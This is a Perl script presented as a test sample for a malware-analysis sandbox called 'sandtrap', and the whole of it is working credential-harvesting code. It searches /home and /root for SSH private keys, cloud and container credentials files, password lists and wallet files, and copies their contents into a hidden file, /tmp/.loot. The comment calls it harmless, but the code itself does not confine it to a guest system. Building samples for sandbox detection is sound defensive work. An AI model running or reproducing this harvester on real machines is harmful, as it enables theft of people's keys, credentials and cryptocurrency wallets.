#!/usr/bin/perl
# Credential harvesting: scans home directories for private keys, .aws/.docker/.kube credentials and password files, and writes them to a staging file.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
use strict;
use File::Find;
my @hits;
find(sub {
    return unless -f $_ && -r _;
    if (/^(id_rsa|id_ed25519|credentials|config\.json|passwords\.txt|wallet\.dat)$/) { push @hits, $File::Find::name; }
}, '/home', '/root');
open(my $out, '>', '/tmp/.loot') or die;
for my $f (@hits) { open(my $in, '<', $f) or next; local $/; print $out "== $f\n", <$in>; }
close $out;
print scalar(@hits), " files\n";
